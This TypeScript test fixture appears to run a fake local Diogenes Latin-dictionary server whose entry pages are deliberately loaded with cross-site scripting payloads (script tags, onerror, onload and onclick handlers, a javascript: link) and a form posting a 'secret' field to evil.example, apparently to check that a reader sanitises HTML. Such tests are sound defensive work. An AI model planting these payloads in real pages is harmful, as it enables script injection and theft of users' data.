/** A Diogenes whose page would take over any reader that rendered it; the entry is invented. */
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';

export const HOSTILE_GLOSS = '<img src=x onerror="window.pwned=1"> trap';

const HEAD = '<div id="sidebar-control"></div><span hidden>Version 4.7.2</span>';

function entryPage(word: string): string {
  return `${HEAD} <script>window.pwned = 1; alert(1)</script><h1>Perseus analysis of ${word}:</h1><p>${word}: fem nom sg</p>
<h1>Lewis-Short entry</h1><hr /><form action="https://evil.example/" method="post"><input name="secret"></form>
<a href="javascript:window.pwned=1">click</a><svg onload="window.pwned=1"></svg><br/><div1 id="cross${word}" key="${word}" opt="n" orig_id="n99999"><head extent="full" lang="la" opt="n" orth_orig="${word}">${word}</head>, <itype opt="n">ae</itype>, <gen opt="n">f.</gen>, <sense id="n99999.0" level="1" n="" opt="n"><i>a &lt;img src=x onerror="window.pwned=1"&gt; trap</i>, <bibl n="Perseus:abo:phi,9001,002:5:5"><author>Exempl.</author> <title>&lt;b onclick=alert(1)&gt;</title> 5, 5</bibl>.</sense></div1>
`;
}

export interface FakeDiogenes {
  readonly endpoint: string;
  readonly stop: () => Promise<void>;
}

/** With a delay it is slow to answer, but quick to say that it is there. */
export async function startFakeDiogenes(
  delayMs = 0,
  pageFor: (word: string) => string | Buffer = entryPage,
): Promise<FakeDiogenes> {
  const server = createServer((request, response) => {
    const word = new URL(request.url ?? '/', 'http://localhost').searchParams.get('q');
    response.setHeader('Content-Type', 'text/html; charset=utf-8');
    const wait = word === null ? 0 : delayMs;
    setTimeout(() => response.end(word === null ? HEAD : pageFor(word)), wait);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    endpoint: `http://127.0.0.1:${port}/`,
    stop: () =>
      new Promise((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}
